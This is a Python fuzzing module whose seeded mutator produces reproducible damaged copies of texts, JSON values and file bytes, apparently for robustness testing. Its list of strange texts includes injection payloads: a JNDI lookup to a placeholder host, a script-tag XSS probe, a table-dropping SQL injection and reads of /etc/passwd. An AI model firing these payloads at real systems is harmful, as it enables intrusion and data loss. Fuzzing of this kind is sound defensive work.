"""A seeded mutator: damages texts, JSON values and files, the same way in every run."""

import json
import random
from collections.abc import Sequence
from typing import Any

STRANGE_TEXTS = (
    "",
    " ",
    "\x00",
    "\ud800",
    "\u202e",
    "\ufeff",
    "\U0010ffff",
    "ﷺ" * 40,
    "a\u0300" * 50,
    "%00",
    "%s%n",
    "{0.__class__}",
    "${jndi:ldap://e.com}",
    "<script>alert(1)</script>",
    "![i](http://e.com/p.png)",
    "[1]",
    "[k3q7z]",
    "</source>",
    "'; drop table judgements;--",
    "../../../etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "CON",
    "nan",
    "inf",
    "-0",
    "1e999",
    "0x10",
    "9" * 400,
    "١٢",
    "$\\frac{1}{0}$",
    "\\input{/etc/passwd}",
    "(" * 300,
    "a" * 5000,
    "AND OR NOT",
    '"',
    "\\",
    "*",
    "?",
    "\n",
    "\r\n",
    "\x1b[2J",
)
"""Texts that have broken other programs."""

STRANGE_VALUES: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    1,
    10**6,
    10**30,
    1.5,
    -0.0,
    1e308,
    float("nan"),
    float("inf"),
    -float("inf"),
    [],
    {},
    [[]],
    {"": None},
    *STRANGE_TEXTS,
)

_PIECES = (
    b"\x00",
    b"\xff\xfe",
    b"\x80",
    b"\n",
    b"{",
    b"}",
    b'"',
    b",",
    b"<",
    b"]]>",
    b"&e;",
    b"PK\x03\x04",
    b"9" * 30,
    b"%",
)
MOST_CUT = 40


class Mutator:
    """Draws damaged copies. Two mutators with the same seed draw the same."""

    def __init__(self, seed: int) -> None:
        self.luck = random.Random(seed)

    def choice(self, options: Sequence[Any]) -> Any:
        """Draw one of `options`."""
        return self.luck.choice(options)

    def text(self, text: str) -> str:
        """Insert, remove, repeat or swap a few parts of a text."""
        for _ in range(self.luck.randint(1, 3)):
            start, end = self._span(len(text))
            piece = self.luck.choice(
                (self.luck.choice(STRANGE_TEXTS), text[start:end] * 3, "", chr(self.luck.randrange(0x3000)))
            )
            text = text[:start] + piece + text[end if self.luck.random() < 0.5 else start :]
        return text

    def value(self, value: Any) -> Any:
        """Replace, remove, rename or add a part of a JSON value."""
        if isinstance(value, dict) and value and self.luck.random() < 0.85:
            return self._object(value)
        if isinstance(value, list) and value and self.luck.random() < 0.85:
            place = self.luck.randrange(len(value))
            if self.luck.random() < 0.1:
                return value * 40
            return [*value[:place], self.value(value[place]), *value[place + 1 :]]
        if isinstance(value, str) and self.luck.random() < 0.4:
            return self.text(value)
        return self.luck.choice(STRANGE_VALUES)

    def _object(self, value: dict[str, Any]) -> dict[str, Any]:
        key, chance = self.luck.choice(sorted(value)), self.luck.random()
        if chance < 0.1:
            return {name: part for name, part in value.items() if name != key}
        if chance < 0.2:
            return {**value, self.luck.choice(STRANGE_TEXTS): value[key]}
        return {**value, key: self.value(value[key])}

    def content(self, content: bytes) -> bytes:
        """Flip, cut, insert or repeat a few bytes of a file."""
        for _ in range(self.luck.randint(1, 4)):
            start, end = self._span(len(content))
            piece = self.luck.choice((self.luck.choice(_PIECES), content[start:end] * 2, b"", self.luck.randbytes(4)))
            content = content[:start] + piece + content[end:]
        return content[: self.luck.randrange(len(content) + 1)] if self.luck.random() < 0.1 else content

    def body(self, value: Any) -> bytes:
        """Write a damaged copy of a JSON value; one in five is damaged as bytes, and one in forty is nested deeply."""
        chance = self.luck.random()
        if chance < 0.025:
            return b'{"query":' * 20_000
        if chance < 0.2:
            return self.content(json.dumps(value).encode())
        return json.dumps(self.value(value)).encode()

    def _span(self, length: int) -> tuple[int, int]:
        start = self.luck.randrange(length + 1)
        return start, min(length, start + self.luck.randrange(MOST_CUT))
